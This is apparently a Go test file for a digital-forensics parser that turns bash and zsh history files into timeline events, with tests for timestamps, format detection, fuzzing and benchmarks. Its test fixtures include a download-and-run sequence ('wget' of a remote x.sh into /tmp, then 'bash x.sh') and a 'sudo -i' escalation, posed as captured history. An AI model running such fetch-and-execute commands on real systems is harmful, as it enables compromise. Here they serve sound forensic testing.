package bashhistory

import (
	"bytes"
	"context"
	"io"
	"os"
	"testing"
	"time"

	"github.com/kiseki-forensics/kiseki/internal/corpus"
	"github.com/kiseki-forensics/kiseki/internal/parsertest"
	"github.com/kiseki-forensics/kiseki/parsers"
	"github.com/kiseki-forensics/kiseki/timeline"
)

type cmd struct {
	time, cmd, tags string
	line            int64
}

func TestHistories(t *testing.T) {
	mt := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	for _, tc := range []struct {
		name, rel, data, user string
		want                  []cmd
	}{
		{"stamped", "home/alice/.bash_history",
			"#1700000000\nls -la\n#1700000060\ncd /tmp\nwget http://203.0.113.7/x.sh\n\n#1700000120\nbash x.sh\n", "alice",
			[]cmd{{"2023-11-14T22:13:20Z", "ls -la", "", 2}, {"2023-11-14T22:14:20Z", "cd /tmp", "", 4},
				{"2023-11-14T22:14:20Z", "wget http://203.0.113.7/x.sh", "no-timestamp", 5}, {"2023-11-14T22:15:20Z", "bash x.sh", "", 8}}},
		{"before first stamp", "root/.bash_history", "whoami\n#1700000000\nid\n", "root",
			[]cmd{{"2023-11-14T22:13:20Z", "whoami", "no-timestamp", 1}, {"2023-11-14T22:13:20Z", "id", "", 3}}},
		{"no stamps", "srv/.bash_history", "ls\n# a comment typed at the prompt\nexit\n", "",
			[]cmd{{"2026-03-01T12:00:00Z", "ls", "no-timestamp,file-mtime", 1},
				{"2026-03-01T12:00:00Z", "# a comment typed at the prompt", "no-timestamp,file-mtime", 2},
				{"2026-03-01T12:00:00Z", "exit", "no-timestamp,file-mtime", 3}}},
		{"zsh extended", "Users/bob/.zsh_history", ": 1700000000:0;sudo -i\n: 1700000005:2;curl -O http://x/y\n", "bob",
			[]cmd{{"2023-11-14T22:13:20Z", "sudo -i", "zsh", 1}, {"2023-11-14T22:13:25Z", "curl -O http://x/y", "zsh", 2}}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := parsertest.WriteFile(t, tc.rel, tc.data, mt)
			in, _ := parsertest.Input(p, 0, nil)
			in.Name = tc.rel
			var c parsertest.Collect
			if err := parse(context.Background(), in, &c); err != nil {
				t.Fatal(err)
			}
			if len(c.Events) != len(tc.want) {
				t.Fatalf("%d events, want %d", len(c.Events), len(tc.want))
			}
			for i, w := range tc.want {
				ev := &c.Events[i]
				got := cmd{ev.UTC().Format(time.RFC3339), ev.Message, ev.Tags, ev.Line}
				if got != w || ev.User != tc.user || ev.Action != timeline.ActionExecute || ev.Source != FormatName {
					t.Errorf("event %d: got %+v user %q, want %+v user %q", i, got, ev.User, w, tc.user)
				}
			}
		})
	}
}

func TestDetect(t *testing.T) {
	for _, tc := range []struct {
		name, head string
		min, max   int
	}{
		{".bash_history", "ls\ncd\n", 90, 100},
		{"hist.txt", "#1700000000\nls\n#1700000001\ncd\n", 85, 100},
		{".zsh_history", ": 1700000000:0;ls\n", 90, 100},
		{"messages", "Mar  1 00:00:00 h sshd[1]: x\n", 0, 0},
	} {
		if s := detect(tc.name, []byte(tc.head)); s < tc.min || s > tc.max {
			t.Errorf("%s scored %d", tc.name, s)
		}
	}
	plain, err := os.ReadFile(corpus.Path(t, "syslog/plaso/syslog"))
	if err != nil {
		t.Fatal(err)
	}
	if s := detect("syslog", plain); s > 0 {
		t.Errorf("syslog scored %d", s)
	}
}

func FuzzParse(f *testing.F) {
	f.Add([]byte("#1700000000\nls -la\n#1700000060\ncd /tmp\n"))
	f.Add([]byte(": 1700000000:0;sudo -i\n"))
	f.Add([]byte("ls\n\x00\xff\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		in := &parsers.Input{Name: ".bash_history", ZoneSource: "fuzz",
			Open: func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(data)), nil }}
		var c parsertest.Collect
		if err := parse(context.Background(), in, &c); err != nil {
			t.Fatal(err)
		}
		detect(".bash_history", data)
	})
}

// BenchmarkParse: go test ./parsers/bashhistory -run x -bench . -benchtime 1s
func BenchmarkParse(b *testing.B) {
	var buf bytes.Buffer
	for i := 0; i < 10000; i++ {
		buf.WriteString("#17000")
		buf.WriteString("00000\n")
		buf.WriteString("ls -la /var/www/html/uploads\n")
	}
	data := buf.Bytes()
	in := &parsers.Input{Name: ".bash_history", ZoneSource: "bench",
		Open: func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(data)), nil }}
	var s parsertest.Discard
	b.ReportAllocs()
	cpu0 := parsertest.ProcessCPU()
	b.SetBytes(int64(len(data)))
	for i := 0; i < b.N; i++ {
		if err := parse(context.Background(), in, &s); err != nil {
			b.Fatal(err)
		}
	}
	parsertest.Rate(b, s.N, "commands", cpu0)
}
